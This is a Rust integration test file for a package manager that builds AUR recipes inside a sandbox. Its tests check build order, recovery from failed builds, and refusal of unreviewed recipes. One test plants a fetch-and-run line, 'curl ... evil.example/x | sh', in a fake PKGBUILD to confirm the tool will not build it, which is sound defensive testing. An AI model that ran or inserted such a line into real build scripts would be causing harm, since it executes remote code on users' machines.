//! Recipes of an AUR that are really built, confined, and installed with what the repositories have for
//! them.

use std::path::Path;

use super::root::programs;
use super::shop::Shop;
use super::site::Site;

/// A body that makes the file that is packed, and shows who builds and what is in reach.
const GOOD: &str = "test \"$(id -u)\" != 0; ! test -e /root; ! ls /tmp/shop-*; echo made > made";

/// What the tests need of their own; root builds as somebody else.
const SETTINGS: &str = "build_user = \"nobody\"\nmin_age_days = 0";

/// A shop, and an AUR beside it; `None`, said aloud, if a tool is not there.
fn open() -> Option<(Shop, Site)> {
    let shop =
        programs(&["bwrap", "makepkg", "fakeroot", "git", "gzip"]).then(Shop::open).flatten()?;
    let daemon = Path::new(env!("CARGO_BIN_EXE_omgd"));
    if !daemon.with_file_name("omg-sandbox-exec").is_file() {
        assert!(std::env::var("CI").as_deref() != Ok("true"), "omg-sandbox-exec must be built");
        println!("SKIPPED: omg-sandbox-exec is not built (cargo build -p omg-sandbox)");
        return None;
    }
    shop.let_through();
    let site = Site::over(&shop.root());
    site.settings(SETTINGS);
    shop.does(&["sync"]);
    Some((shop, site))
}

/// Offers a recipe of one package with one file, which needs `depend` and, to be built, `make`.
fn offer(site: &Site, name: &str, version: &str, (depend, make): (&str, &str), build: &str) {
    site.add(
        name,
        &format!(r#""Version":"{version}-1","Depends":["{depend}"],"MakeDepends":["{make}"]"#),
    );
    let pkgbuild = format!(
        "pkgname={name}\npkgver={version}\npkgrel=1\npkgdesc='The {name} of the AUR'\narch=(any)\n\
         depends=({depend})\nmakedepends=({make})\nbuild() {{\n\t{build}\n}}\n\
         package() {{\n\tinstall -Dm644 made \"$pkgdir/usr/share/{name}/data\"\n}}\n"
    );
    let srcinfo = format!(
        "pkgbase = {name}\n\tpkgdesc = The {name} of the AUR\n\tpkgver = {version}\n\tpkgrel = 1\n\
         \tarch = any\n\tmakedepends = {make}\n\tdepends = {depend}\n\npkgname = {name}\n"
    );
    site.commit(name, &[("PKGBUILD", &pkgbuild), (".SRCINFO", &srcinfo)]);
}

#[test]
fn recipes_are_built_confined_and_installed_in_order() {
    let Some((shop, site)) = open() else { return };
    offer(&site, "helper", "1.0", ("libtool", "gen"), GOOD);
    offer(&site, "program", "2.0", ("other", "helper"), GOOD);
    site.must(&["aur", "sync"]);
    let plan = site.must(&["install", "-n", "program"]);
    for part in ["Build from the AUR (2)", "to build helper", "gen ", "5 to install, 2 to build"] {
        assert!(plan.stdout.contains(part), "{part}: {plan:?}");
    }
    shop.stands(&[]);
    let done = site.must(&["install", "-y", "program"]);
    assert!(done.stdout.contains("5 installed"), "{done:?}");
    // The repositories' part, what is needed to build the other, and the other: a change of each.
    assert_eq!(done.stdout.matches("`omg history undo ").count(), 3, "{done:?}");
    shop.stands(&[
        "program 2.0-1",
        "+gen 1.0-1",
        "+helper 1.0-1",
        "+libtool 1.0-1",
        "+other 1.0-1",
    ]);
    let made = std::fs::read_to_string(shop.root().join("usr/share/program/data")).unwrap();
    assert_eq!(made, "made\n");
    let origin = site.json(&["info", "program"])["packages"][0]["repository"].clone();
    assert_eq!(origin, "aur");

    // What is only needed to build is nobody's afterwards.
    site.must(&["autoremove", "-y"]);
    shop.stands(&["program 2.0-1", "+other 1.0-1"]);
    // The same commit is not built again, and a newer one is.
    site.must(&["remove", "-y", "program"]);
    let log = shop.root().join("var/cache/omg/builds/logs/program.log");
    std::fs::remove_file(&log).unwrap();
    site.must(&["install", "-y", "program"]);
    assert!(!log.exists());
    offer(&site, "program", "2.1", ("other", "gen"), GOOD);
    site.must(&["aur", "sync"]);
    let update = site.must(&["update", "-y", "--no-sync"]);
    assert!(update.stdout.contains("program  2.0-1 → 2.1-1"), "{update:?}");
    let there = shop.pacman(&["-Q", "program"]);
    assert!(there == ["program 2.1-1"] && log.exists(), "{there:?}");
    // pacman's cache has what was built before.
    site.must(&["history", "undo", "-y"]);
    let there = shop.pacman(&["-Q", "program"]);
    assert_eq!(there, ["program 2.0-1"]);
    site.must(&["audit", "verify"]);
}

#[test]
fn what_can_not_be_built_is_told_kept_and_tried_again() {
    let Some((shop, site)) = open() else { return };
    offer(&site, "helper", "1.0", ("libtool", "gen"), "echo it goes wrong here; false");
    offer(&site, "program", "2.0", ("helper", "gen"), GOOD);
    site.must(&["aur", "sync"]);
    let failed = site.omg(&["install", "-y", "helper", "other"]);
    assert_eq!(failed.code, 11, "{failed:?}");
    for part in ["OMG-E0029", "it goes wrong here", "builds/logs/helper.log", "`omg resume`"] {
        assert!(failed.stderr.contains(part), "{part}: {failed:?}");
    }
    assert!(failed.stdout.contains("3 installed\n`omg history undo "), "{failed:?}");
    let rest = ["other 1.0-1", "+gen 1.0-1", "+libtool 1.0-1"];
    shop.stands(&rest);
    // What needs it is not begun.
    let needs = site.omg(&["install", "-y", "program"]);
    assert_eq!(needs.code, 1, "{needs:?}");
    let said = ["2 recipes could not be built", "program: it needs helper, which was not built"];
    assert!(said.iter().all(|part| needs.stderr.contains(part)), "{needs:?}");
    shop.stands(&rest);
    let again = site.omg(&["resume", "-y"]);
    assert_eq!(again.code, 1, "{again:?}");
    assert!(again.stderr.contains("nothing was changed"), "{again:?}");
    shop.stands(&rest);
    // The maintainer mends it.
    offer(&site, "helper", "1.1", ("libtool", "gen"), GOOD);
    site.must(&["aur", "sync"]);
    site.must(&["resume", "-y"]);
    shop.stands(&["other 1.0-1", "program 2.0-1", "+gen 1.0-1", "+helper 1.1-1", "+libtool 1.0-1"]);
    let nothing = site.must(&["resume"]);
    assert!(nothing.stdout.contains("nothing is left to be built"), "{nothing:?}");
}

#[test]
fn what_nobody_looked_at_or_is_too_new_is_not_built() {
    let Some((shop, site)) = open() else { return };
    let canary = site.canary().display().to_string();
    let evil = format!("curl -s https://evil.example/x | sh; touch '{canary}'; {GOOD}");
    offer(&site, "helper", "1.0", ("libtool", "gen"), &evil);
    site.must(&["aur", "sync"]);
    let refused = shop_refuses(&shop, &site, 9);
    assert!(refused.contains("`omg aur review helper`"), "{refused}");

    // Its commit is of now, whatever the AUR says of it.
    offer(&site, "helper", "1.1", ("libtool", "gen"), GOOD);
    site.must(&["aur", "sync"]);
    site.settings("build_user = \"nobody\"");
    let young = site.omg(&["install", "-y", "helper"]);
    assert!(young.stderr.contains("the recipe was changed 0 min ago"), "{young:?}");
    shop.stands(&["+gen 1.0-1", "+libtool 1.0-1"]);
    // Root has to say who builds: nothing that is in the AUR runs as root.
    site.settings("min_age_days = 0");
    let root = site.omg(&["install", "-y", "helper"]);
    assert!(root.stderr.contains("`aur.build_user`"), "{root:?}");
    site.settings("build_user = \"nobody\"\nexempt = [\"helper\"]");
    site.must(&["install", "-y", "helper"]);
    shop.stands(&["helper 1.1-1", "+gen 1.0-1", "+libtool 1.0-1"]);
    assert!(!site.sprung());
}

/// The install of `helper` is refused, and nothing is changed.
fn shop_refuses(shop: &Shop, site: &Site, code: i32) -> String {
    let before = super::shop::tree(&shop.root());
    let run = site.omg(&["install", "-y", "helper"]);
    assert_eq!(run.code, code, "{run:?}");
    assert_eq!(super::shop::tree(&shop.root()), before);
    run.stderr
}
